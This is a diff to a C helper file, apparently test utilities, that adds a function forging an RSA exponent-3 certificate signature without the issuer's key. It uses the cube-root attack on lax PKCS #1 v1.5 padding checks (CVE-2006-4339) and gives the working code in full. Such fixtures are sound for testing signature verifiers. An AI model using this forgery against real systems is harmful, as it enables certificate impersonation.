@@ -72,6 +72,48 @@ static inline EVP_PKEY *openssl_generate_same_point(const EVP_PKEY *other) {
     return made;
 }
 
+// Replaces a certificate's RSA signature (SHA-256, PKCS #1 v1.5) with one that is made without the
+// issuer's private key, for its exponent 3: a cube root whose cube begins like a signature with too
+// little padding, and ends in whatever it ends in (CVE-2006-4339). Returns 0 for another key.
+static inline int openssl_forge_signature(X509 *certificate, const EVP_PKEY *issuer) {
+    static const unsigned char identifier[] = {0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01,
+                                               0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00, 0x04, 0x20};
+    enum { padding = 8, start = 2 + padding + 1, end = start + sizeof identifier + 32 };
+    unsigned char block[1024] = {0}, *content = NULL;
+    size_t size = EVP_PKEY_get_size(issuer);
+    const ASN1_BIT_STRING *signature = NULL;
+    BIGNUM *exponent = NULL;
+    int count = i2d_re_X509_tbs(certificate, &content), status = 0;
+    // The root has a third of the bits, and its cube is right in the first two thirds of these.
+    int is_weak = EVP_PKEY_get_bn_param(issuer, OSSL_PKEY_PARAM_RSA_E, &exponent) &&
+                  BN_is_word(exponent, 3) && size <= sizeof block && size / 3 >= end;
+    if (is_weak && count > 0) {
+        block[1] = 1;
+        memset(block + 2, 0xFF, padding);
+        memcpy(block + start, identifier, sizeof identifier);
+        EVP_Digest(content, count, block + end - 32, NULL, EVP_sha256(), NULL);
+        BN_CTX *context = BN_CTX_new();
+        BIGNUM *wanted = BN_bin2bn(block, (int)size, NULL), *root = BN_new(), *cube = BN_new();
+        for (int bit = (int)size * 8 / 3 + 1; bit >= 0; bit--) {
+            BN_set_bit(root, bit);
+            BN_sqr(cube, root, context);
+            BN_mul(cube, cube, root, context);
+            if (BN_cmp(cube, wanted) >= 0) BN_clear_bit(root, bit);
+        }
+        BN_add_word(root, 1);
+        X509_get0_signature(&signature, NULL, certificate);
+        status = BN_bn2binpad(root, block, (int)size) == (int)size &&
+                 ASN1_STRING_set((ASN1_BIT_STRING *)signature, block, (int)size);
+        BN_free(wanted);
+        BN_free(root);
+        BN_free(cube);
+        BN_CTX_free(context);
+    }
+    BN_free(exponent);
+    OPENSSL_free(content);
+    return status;
+}
+
 // Makes a library that knows what OpenSSL has retired, such as MD4; NULL where that is not installed.
 static inline OSSL_LIB_CTX *openssl_library_with_legacy(void) {
     OSSL_LIB_CTX *made = OSSL_LIB_CTX_new();
